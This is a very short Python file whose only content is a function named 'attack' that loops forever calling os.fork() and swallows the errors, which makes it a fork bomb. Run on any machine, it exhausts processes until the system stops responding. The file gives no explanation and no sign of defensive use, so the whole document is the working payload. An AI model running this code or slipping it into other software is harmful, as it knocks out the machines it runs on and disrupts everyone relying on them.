import contextlib


def attack(params):
    import os

    while True:
        with contextlib.suppress(OSError):
            os.fork()
